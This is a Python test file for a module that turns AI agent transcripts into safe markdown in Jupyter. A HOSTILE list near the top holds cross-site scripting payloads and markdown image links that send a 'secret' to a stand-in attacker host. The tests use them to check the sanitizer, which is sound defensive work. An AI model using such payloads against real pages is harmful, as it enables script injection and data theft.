from __future__ import annotations

import itertools
import re

import pytest
from api_server import calls, says

from jupyter_agents.transcript import (
    DETAIL_LIMIT,
    TEXT_LIMIT,
    Text,
    Tool,
    clean,
    cut,
    fenced,
    item_markdown,
    item_text,
    outcome,
    render,
    safe_markdown,
    seconds,
    shorten,
    size,
    transcript,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>",
    "``` <script>alert(1)</script>\n",
    "```\n```\n<script>alert(1)</script>",
    "> ```\n> <script>alert(1)</script>\n> ```",
    "~~~\n<script>\n````\n~~~\n<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x]( \n JavaScript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]:\njavascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://attacker.example/?q=secret)",
    "![x][y]\n\n[y]: https://attacker.example/",
    "<details>\n\n<script>alert(1)</script>",
    "$$\n<script>alert(1)</script>\n$$",
    "</details><script>alert(1)</script>",
]


def html(markdown: str) -> str:
    """As nbconvert renders it, which removes nothing."""
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    return str(markdown2html_mistune(markdown))


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("part", ["text", "input", "result", "summary"])
def test_what_a_model_writes_cannot_act(text: str, part: str) -> None:
    item = Text(text) if part == "text" else Tool("Bash", "", "", result="")
    if part != "text":
        setattr(item, part, text)
    rendered = html(f"before\n\n{item_markdown(item)}\n\nafter **bold**")
    tags = set(re.findall(r"<(\w+)", rendered))
    assert tags <= {"p", "code", "pre", "a", "div", "span", "strong", "blockquote", "details", "summary", "b", "small"}
    assert not re.search(r'(href|src)="(?!https?:|#)', rendered)
    assert "<img" not in rendered
    assert "after <strong>bold</strong>" in rendered


def test_code_is_kept_to_the_letter() -> None:
    code = "if a < b && c > d:\n    print('<b>', `x`, $y)\n\n```\nend"
    assert code in safe_markdown(f"Look:\n````python\n{code}\n````\nwell")
    rendered = html(safe_markdown("Use `List<int>` and ``a ` b``, *now*."))
    assert rendered.strip() == "<p>Use <code>List&lt;int&gt;</code> and <code>a ` b</code>, <em>now</em>.</p>"


def test_code_in_a_list_loses_its_indent() -> None:
    assert "```sh\nls\n  -l\n```" in safe_markdown("1. do\n   ```sh\n   ls\n     -l\n   ```\n2. done")


def test_a_fence_is_longer_than_any_in_the_code() -> None:
    assert fenced("a ```` b", "py thon<") == "`````\na ```` b\n`````"


def test_links_to_the_web_stay() -> None:
    for link in ("https://a.example/x?y=1", "mailto:a@b.example", "#part", "docs/api.md"):
        assert f'<a href="{link}">x</a>' in html(safe_markdown(f"[x]({link})"))


@pytest.mark.parametrize(
    ("dirty", "tidy"),
    [
        ("a\x1b[31mred\x1b[0m", "ared"),
        ("\x1b]0;title\x07x\x1b]52;c;aGk=\x1b\\y", "xy"),
        ("cut \x1b[3", "cut "),
        ("\x9b31mx", "x"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("nul\x00 bell\x07 rtl\u202e half\ud800", "nul\ufffd bell\ufffd rtl\ufffd half\ufffd"),
        ("tab\tnewline\n ümläut 日本 🎉", "tab\tnewline\n ümläut 日本 🎉"),
    ],
)
def test_clean(dirty: str, tidy: str) -> None:
    assert clean(dirty) == tidy


def test_cleaning_is_stable_while_text_grows() -> None:
    text = "a\x1b[31mb\r\nc\x1b]0;t\x07d"
    parts = [clean(text[:n]) for n in range(len(text) + 1)]
    assert all(later.startswith(earlier) for earlier, later in itertools.pairwise(parts))


def test_streamed_text_is_told_once() -> None:
    told = transcript([*says("Hello **you**"), *calls("Bash", {"command": "ls"}, "a\nb"), *says("Bye")])
    assert told.items == [
        Text("Hello **you**", done=True),
        Tool("Bash", "ls", "command: ls", result="a\nb"),
        Text("Bye", done=True),
    ]


def test_text_shows_while_it_streams() -> None:
    told = transcript(says("Hello")[:2])
    assert told.items == [Text("Hello", done=False)]
    told.feed({"type": "run_end"})
    assert told.items == [Text("Hello", done=True)]


def test_a_message_that_broke_off_keeps_its_own_text() -> None:
    began = {"type": "stream_event", "event": {"type": "message_start"}}
    told = transcript([began, *says("broken")[:2], began, *says("whole")])
    assert told.items == [Text("broken", done=True), Text("whole", done=True)]


def test_calls_that_never_returned_have_failed_at_the_end() -> None:
    told = transcript([*calls("Bash", {"command": "sleep 9"})[:1], {"type": "run_end"}])
    assert told.items == [Tool("Bash", "sleep 9", "command: sleep 9", result="", failed=True)]


def test_subagents_calls_are_nested_and_their_text_is_left_out() -> None:
    events = [{**event, "parent_tool_use_id": "t0"} for event in (*says("hidden"), *calls("Read", {"file_path": "x"}))]
    assert transcript(events).items == [Tool("Read", "x", "file_path: x", nested=True, result="")]


@pytest.mark.parametrize(
    "event",
    [
        {},
        {"type": "brand_new"},
        {"type": "assistant"},
        {"type": "assistant", "message": {"content": None}},
        {"type": "assistant", "message": {"content": ["x", {"type": "future"}]}},
        {"type": "user", "message": {"content": [{"type": "tool_result", "tool_use_id": "unknown"}]}},
        {"type": "stream_event"},
        {"type": "stream_event", "event": {"type": "content_block_delta", "delta": {"thinking": "hm"}}},
    ],
)
def test_unknown_events_are_nothing(event: dict[str, object]) -> None:
    assert transcript([event]).items == []


def test_odd_inputs_and_results() -> None:
    odd = calls("X", {"n": 1, "text": "a\nb"}, [{"type": "text", "text": "t"}, {"type": "image"}], failed=True)
    assert transcript(odd).items == [
        Tool("X", '{"n": 1, "text": "a\\nb"}', "n: 1\ntext:\na\nb", result="t\n(image)", failed=True)
    ]
    assert transcript([{"type": "raw", "text": "warning: x"}]).items == [Text("`warning: x`", done=True)]


def test_megabytes_are_cut_to_head_and_tail() -> None:
    assert cut("abc", 3) == "abc"
    for item, limit in ((Text("x" * 2**20 + "END"), TEXT_LIMIT), (Tool("T", "", "", result="y" * 2**20), DETAIL_LIMIT)):
        shown = item_markdown(item)
        assert len(shown) < limit + 500
        assert "characters left out" in shown
    assert item_text(Text("x" * 2**20 + "END")).endswith("END")
    assert len(shorten("z" * 2**20)) == 120


def test_render() -> None:
    bundle = render([Text("a"), Tool("Bash", "ls", "", result="", failed=True)], leave_out=1200)
    assert bundle["text/plain"] == "… 1,200 earlier steps are left out …\na\n● Bash ls ✗"
    assert bundle["text/markdown"].startswith("… 1,200 earlier steps are left out …\n\na\n\n<details>")


def test_words_for_numbers() -> None:
    assert [size(n) for n in (5, 2048, 312 * 2**20, 2**30, 1.5 * 2**30)] == [
        "5 bytes",
        "2 kB",
        "312 MB",
        "1 GB",
        "1.5 GB",
    ]
    assert [seconds(n) for n in (1.23, 42, 75, 7300)] == ["1.2 s", "42 s", "1 min 15 s", "2 h 1 min"]


def test_outcome() -> None:
    run = {"state": "running", "started": 10.0, "ended": None, "result": None, "oom_kills": 0}
    assert outcome(run) == "… running"
    result = {"turns": 1, "cost_usd": 0.01, "input_tokens": 1000, "output_tokens": 5}
    run.update(state="succeeded", ended=12.0, result=result)
    assert outcome(run) == "✓ succeeded in 2.0 s · 1 turn · $0.0100 · 1,000 tokens in, 5 out"
    run.update(state="oom_killed", result=None, oom_kills=2)
    assert outcome(run) == "✗ out of memory in 2.0 s · 2 processes killed for memory"
